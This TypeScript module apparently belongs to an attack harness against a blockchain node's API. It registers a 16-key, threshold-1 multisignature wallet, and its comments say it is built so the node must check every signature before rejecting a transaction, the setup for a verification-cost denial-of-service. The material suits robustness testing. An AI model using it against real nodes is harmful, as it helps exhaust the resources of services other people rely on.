/** Multisignature wallet on the chain; attackers need only its public key. */
import { setTimeout as sleep } from "node:timers/promises";
import {
  addressFromPublicKey,
  builders,
  multiSignaturePublicKey,
  multiSignTransaction,
  signTransaction,
} from "@uniknode/protocol";
import { ask } from "./requests.ts";
import { type Accounts, openAccounts, submissionText } from "./sender.ts";
import type { Target } from "./target.ts";

export const PARTICIPANTS = 16;
const FROM = "127.50.0.1";
const TIMEOUT_MS = 60_000;
const POLL_MS = 1_000;

const participants = ({ unfunded }: Accounts) => Array.from({ length: PARTICIPANTS }, unfunded);

/** Each of its 16 keys signs alone, so that all signatures of others are checked before a transaction is refused. */
const shapeOf = (accounts: readonly { readonly publicKey: string }[]) => ({
  min: 1,
  publicKeys: accounts.map(({ publicKey }) => publicKey),
});

/** The public key of the wallet; the accounts must be new. */
export const walletKey = (accounts: Accounts): string =>
  multiSignaturePublicKey(shapeOf(participants(accounts)));

/** Registers the wallet unless it is on the chain, and waits until it is. */
export async function registerWallet(target: Target): Promise<void> {
  const accounts = openAccounts(target);
  const keys = participants(accounts);
  const { funded, network } = accounts;
  const shape = shapeOf(keys);
  const address = addressFromPublicKey(multiSignaturePublicKey(shape), network.description.pubKeyHash);
  const isRegistered = async () => {
    const { text } = await ask(target, { path: `/api/v2/wallets/${address}`, from: FROM });
    return text.includes('"multiSignature"');
  };
  const submit = async () => {
    const nonce = await accounts.nextNonce();
    const body = builders.multiSignature({ network, senderPublicKey: funded.publicKey, nonce, ...shape });
    const signed = keys.reduce((body, { keys }, index) => multiSignTransaction(body, index, keys), body);
    const transactions = submissionText([signTransaction(signed, funded.keys)]);
    return ask(target, { path: "/api/v2/transactions", from: FROM, body: transactions });
  };
  const endsMs = performance.now() + TIMEOUT_MS;
  while (!(await isRegistered())) {
    // Retry: transactions of the previous attack can have the same nonce.
    const { text } = await submit();
    if (performance.now() > endsMs) throw new Error(`the wallet is not registered: ${text}`);
    await sleep(POLL_MS);
  }
}
